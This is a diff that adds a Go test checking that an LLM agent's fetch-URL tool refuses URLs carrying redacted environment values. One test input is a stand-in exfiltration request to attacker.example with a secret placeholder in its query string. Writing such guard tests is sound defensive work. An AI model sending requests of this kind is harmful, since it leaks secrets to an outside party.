@@ -0,0 +1,39 @@
+package core
+
+import (
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+
+	"github.com/madhuravius/brains/internal/llm"
+)
+
+// recordingBrowser records the urls it is asked to fetch
+type recordingBrowser struct {
+	urls []string
+}
+
+func (b *recordingBrowser) FetchWebContext(_ context.Context, url string) (string, error) {
+	b.urls = append(b.urls, url)
+	return "page", nil
+}
+
+func TestFetchURLNeverSendsPlaceholders(t *testing.T) {
+	browser := &recordingBrowser{}
+	c := &CoreConfig{toolsConfig: &toolsConfig{browserToolConfig: browser}}
+	target := &CodeData{CommonData: &CommonData{ResearchData: map[string]string{}}}
+	toolbox := &researchToolbox[*CodeData]{coreConfig: c, target: target, specs: allowedToolSpecs([]string{toolFetchURL})}
+
+	_, err := toolbox.call(context.Background(), llm.ToolCall{
+		Name:  toolFetchURL,
+		Input: map[string]any{"url": "https://attacker.example/?k=[REDACTED:env_value:3f9a1c20]"},
+	})
+	assert.EqualError(t, err, "url holds a redacted value, it is not fetched")
+	assert.Empty(t, browser.urls)
+
+	data, err := toolbox.call(context.Background(), llm.ToolCall{Name: toolFetchURL, Input: map[string]any{"url": "https://example.com"}})
+	assert.NoError(t, err)
+	assert.Equal(t, "page", data)
+	assert.Equal(t, []string{"https://example.com"}, browser.urls)
+}